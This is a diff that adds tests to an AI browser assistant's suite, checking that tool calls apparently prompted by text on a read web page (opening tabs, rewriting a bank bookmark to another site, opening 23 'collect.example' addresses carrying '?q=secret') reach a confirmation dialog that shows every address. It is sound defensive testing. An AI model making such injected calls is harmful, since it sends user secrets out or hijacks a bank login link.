@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { narrow } from './harness/fit.ts';
 import { bookmarksIn, openTabs, saveBookmarks, tabUrls } from './harness/library.ts';
 import { callText, withModel } from './harness/model.ts';
 import { answered, call, choose, press, say, shown, texts } from './harness/panel.ts';
@@ -52,6 +53,73 @@ describe('a page that asks for something', () => {
     await choose(panel, 'deny');
     await answered(panel, 'Not opened.');
     expect(await tabUrls(its.driver)).not.toContain('https://collect.example/?q=secret');
+  });
+
+  it('cannot count by its own address, which is open', async () => {
+    const panel = await its.driver.openPanel();
+    await press(panel, 'New chat');
+    const own = its.site.url('/blog');
+    const before = (await tabUrls(its.driver)).length;
+    model.script([
+      callText('read_page', { tab_ids: [await blogTab()] }),
+      callText('open_tabs', { urls: Array(5).fill(own) }),
+      'Not opened.',
+    ]);
+    await say(panel, 'What did the blog say about the tide?');
+    await shown(panel, '[data-confirm~="open_tabs"]');
+    expect((await texts(panel, '[data-confirm]'))[0]).toContain(own);
+    expect(await panel.$('[data-choice^="allow-"]')).toBeNull();
+    await choose(panel, 'deny');
+    await answered(panel, 'Not opened.');
+    expect((await tabUrls(its.driver)).length).toBe(before);
+  });
+
+  it('cannot have a bookmark lead to it: both addresses are shown', async () => {
+    const [bank] = await saveBookmarks(its.driver, 'Money', [{ title: 'Bank', url: 'https://bank.example/login' }]);
+    const panel = await its.driver.openPanel();
+    await press(panel, 'New chat');
+    const own = its.site.url('/blog');
+    model.script([
+      callText('read_page', { tab_ids: [await blogTab()] }),
+      callText('update_bookmarks', { updates: [{ bookmark_id: bank, url: own }] }),
+      'It stays.',
+    ]);
+    await say(panel, 'What did the blog say of money?');
+    await shown(panel, '[data-confirm~="update_bookmarks"]');
+    const [dialog] = await texts(panel, '[data-confirm]');
+    expect(dialog).toContain('https://bank.example/login');
+    expect(dialog).toContain(own);
+    await choose(panel, 'deny');
+    await answered(panel, 'It stays.');
+    expect((await bookmarksIn(its.driver)).find(({ id }) => id === bank)?.url).toBe('https://bank.example/login');
+  });
+
+  it('cannot hide one of many addresses: all hosts are read before the yes is reached', async () => {
+    const panel = await its.driver.openPanel();
+    await panel.setViewport(narrow);
+    await press(panel, 'New chat');
+    const hosts = Array.from({ length: 23 }, (_, at) => `a-rather-long-name-${at}.collect.example`);
+    model.script([
+      callText('read_page', { tab_ids: [await blogTab()] }),
+      callText('open_tabs', { urls: hosts.map((host) => `https://${host}/?q=secret`) }),
+      'None opened.',
+    ]);
+    await say(panel, 'What did the blog say of the sea?');
+    await shown(panel, '[data-confirm~="open_tabs"]');
+    const seen = await panel.evaluate(() => {
+      const [question, list, yes] = ['.question', '.confirmation-hosts', '[data-choice="allow"]'].map((one) =>
+        document.querySelector(one)!.getBoundingClientRect(),
+      );
+      return {
+        count: document.querySelector('.confirmation-hosts p')!.textContent,
+        hosts: [...document.querySelectorAll('.confirmation-hosts bdi')].map((one) => one.textContent),
+        first: list!.bottom <= yes!.top,
+        yesInView: yes!.top < question!.bottom,
+      };
+    });
+    expect(seen).toEqual({ count: '23 addresses on 23 sites', hosts, first: true, yesInView: false });
+    await choose(panel, 'deny');
+    await answered(panel, 'None opened.');
   });
 });
 
